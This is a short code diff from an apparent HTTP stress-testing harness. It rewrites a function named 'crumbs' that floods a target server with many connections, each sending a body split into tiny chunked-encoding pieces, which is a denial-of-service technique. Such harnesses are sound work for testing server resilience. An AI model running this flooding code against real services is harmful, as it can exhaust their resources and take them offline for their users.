@@ -50,10 +50,10 @@ const heldBodies: Attack = async (target) =>
   })
 
 /** As many pieces as a body has bytes: each takes more than fifty of them. */
-const crumbs: Attack = async (target) =>
-  await crowd(target, target.descriptors / 8, 20, {
-    open: (socket) => void socket.write(`${search}Transfer-Encoding: chunked\r\n\r\n${'1\r\n \r\n'.repeat(bodyBytes)}`),
-  })
+const crumbs: Attack = async (target) => {
+  const pieces = Buffer.from(`${search}Transfer-Encoding: chunked\r\n\r\n${'1\r\n \r\n'.repeat(bodyBytes)}`)
+  await crowd(target, target.descriptors / 10, 20, { open: (socket) => void socket.write(pieces) })
+}
 
 /** Forms of an owner with more fields than any has, without an end. */
 const heldForms: Attack = async (target) => {
